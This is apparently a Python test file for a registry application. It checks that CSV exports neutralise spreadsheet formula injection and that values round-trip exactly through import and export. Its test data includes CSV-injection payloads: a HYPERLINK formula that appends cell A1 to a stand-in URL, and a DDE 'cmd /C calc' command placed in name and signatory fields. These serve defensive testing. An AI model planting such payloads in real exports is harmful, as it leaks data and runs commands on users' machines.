"""Exports are formula-safe and round trips stay exact (exchange/cells.py, docs/exchange-format.md "Formulas")."""

import csv
import unicodedata
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.integration.test_roundtrip import snapshot, write_world
from tests.principals import person

from endwatch.domain import text as rules
from endwatch.exchange.cells import FORMULA_START, format_cell, neutralise, parse_cell, restore
from endwatch.exchange.schema import Column
from endwatch.services.registry.exports import export_folder
from endwatch.services.registry.imports import import_folder

HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"click")'
HOSTILE_CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_world() -> dict[str, list[list[str]]]:
    parties = [
        ["p0", HOSTILE_NAME, "company", "CA", "", "=1+1", ""],
        # The input follows the convention too: a name starting with a quote is written with two.
        ["p1", "''quoted from the start", "company", "TR", "", "''twice|+plus", "-5"],
        ["p2", "-5", "armed_force", "TR", "", "", "@home"],
    ]
    products = [["g0", "p0", "+model", "", "2-15", "\tstarts with a tab", ""]]
    permits = [["N0", "", "p0", "p1", "p2", "TR", "g0", "3", "", "CAD", "2020-01-10", "2021-01-10", "issued",
                "-surveillance", "yes", HOSTILE_CMD, "", "", "", ""]]
    deliveries = [["N0", "2020-02-01", "=1+2", "p1"]]
    # p1's legal name is the command: the party named after it in the issue text, in a second place.
    parties.append(["p3", HOSTILE_CMD, "other", "", "", "", ""])
    return {"parties.csv": parties, "products.csv": products, "permits.csv": permits,
            "deliveries.csv": deliveries, "status_changes.csv": []}


def cells(folder: Path) -> list[str]:
    found = []
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                found.extend(row)
    return found


def test_neutralise_and_restore_are_exact_inverses():
    for text in ["", "plain", "=1+1", "+1", "-5", "@x", "\tx", "\rx", "\nx", "'", "''", "'=1", "＝1", "a=b"]:
        assert restore(neutralise(text)) == text
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'quote") == "''quote"  # a literal leading quote is escaped too
    assert neutralise("a=b") == "a=b"


def test_a_quote_that_escapes_nothing_is_the_texts_own():
    # The writer puts a quote only before a formula character or another quote; any other is the text's.
    assert restore("'") == "'"
    assert restore("'t Hooft") == "'t Hooft"
    assert restore("''t Hooft") == "'t Hooft"
    assert restore("'=1") == "=1"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_restore_inverts_neutralise_for_every_text(value):
    assert restore(neutralise(value)) == value
    # A cell as a person may write it reads the same after one more write and read.
    assert restore(neutralise(restore(value))) == restore(value)


_NAME = Column("name", "text", required=True, rule=rules.name(300))
_stored_names = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"),
                                               blacklist_characters="".join(rules.BIDI_CONTROLS)),
                        min_size=1, max_size=30).map(lambda t: unicodedata.normalize("NFC", t.strip())).filter(bool)


@settings(max_examples=300, deadline=None)
@given(st.one_of(_stored_names, st.sampled_from(["'", "''", "'x", "' '", "'=", "'|'"])))
def test_every_stored_name_reads_back_from_its_cell_exactly(value):
    assert parse_cell(_NAME, format_cell(value)) == value


def test_a_lone_quote_round_trips_through_import_and_export(ew, tmp_path):
    world = hostile_world()
    world["parties.csv"].append(["p4", "'", "company", "CA", "", "'|'x", ""])
    world["parties.csv"].append(["p5", "'t Hooft", "company", "CA", "", "'|x", "''=x"])
    write_world(tmp_path / "in", world)
    import_folder(ew.uow(), person("tester"), tmp_path / "in")
    with ew.reader() as uow:
        p4 = uow.parties.get("p4")
        p5 = uow.parties.get("p5")
    # The name is not kept again as its own alias.
    assert p4 is not None and (p4.name, tuple(p4.aliases), tuple(p4.former_names)) == ("'", ("'x",), ())
    assert p5 is not None and (p5.name, tuple(p5.aliases), tuple(p5.former_names)) == ("'t Hooft", ("'", "x"), ("'=x",))
    export_folder(ew.reader(), tmp_path / "one")
    from tests.factories import empty_database

    empty_database(ew)
    import_folder(ew.uow(), person("tester"), tmp_path / "one")
    with ew.reader() as uow:
        again = uow.parties.get("p4")
        again5 = uow.parties.get("p5")
    assert again5 is not None and (again5.name, tuple(again5.aliases)) == ("'t Hooft", ("'", "x"))
    assert again is not None and again.name == "'" and tuple(again.aliases) == ("'x",)
    export_folder(ew.reader(), tmp_path / "two")
    assert snapshot(tmp_path / "one") == snapshot(tmp_path / "two")


def test_numbers_and_dates_stay_typed_text_is_prefixed():
    from datetime import date
    from decimal import Decimal

    assert format_cell(-5) == "-5"
    assert format_cell(Decimal("-1.5")) == "-1.5"
    assert format_cell(date(2020, 1, 2)) == "2020-01-02"
    assert format_cell("-5") == "'-5"
    assert format_cell(("=1+1", "b")) == "'=1+1|b"
    assert format_cell(("b", "=1+1")) == "b|=1+1"  # the cell starts with b: nothing to evaluate


def test_export_is_formula_safe_and_round_trips_exactly(ew, tmp_path):
    write_world(tmp_path / "in", hostile_world())
    import_folder(ew.uow(), person("tester"), tmp_path / "in")
    with ew.reader() as uow:
        stored = {p.id: (p.name, tuple(p.aliases), tuple(p.former_names)) for p in uow.parties.list()}
    assert stored["p0"] == (HOSTILE_NAME, ("=1+1",), ())
    assert stored["p1"] == ("'quoted from the start", ("'twice", "+plus"), ("-5",))

    export_folder(ew.reader(), tmp_path / "one")
    exported = cells(tmp_path / "one")
    assert not [c for c in exported if c and c[0] in FORMULA_START], "a cell a spreadsheet would evaluate"
    assert "'" + HOSTILE_NAME in exported
    assert "'=1+2" in exported  # the serial
    assert "''quoted from the start" in exported
    assert "3" in exported  # the quantity stays a number

    # Importing the export into an empty registry gives back every value unchanged, and exports identically.
    from tests.factories import empty_database

    empty_database(ew)
    import_folder(ew.uow(), person("tester"), tmp_path / "one")  # raises InvalidInput on any problem
    with ew.reader() as uow:
        again = {p.id: (p.name, tuple(p.aliases), tuple(p.former_names)) for p in uow.parties.list()}
        serials = [i.item.serial for i in uow.deliveries.for_permit("N0")]
        product = uow.products.get("g0")
        permit = uow.permits.get("N0")
    assert again == stored
    assert serials == ["=1+2"]
    assert product is not None and product.model == "+model" and product.description == "starts with a tab"
    assert permit is not None and permit.undertaking.signatory == HOSTILE_CMD
    assert permit.undertaking.end_use == "-surveillance"
    export_folder(ew.reader(), tmp_path / "two")
    assert snapshot(tmp_path / "one") == snapshot(tmp_path / "two")
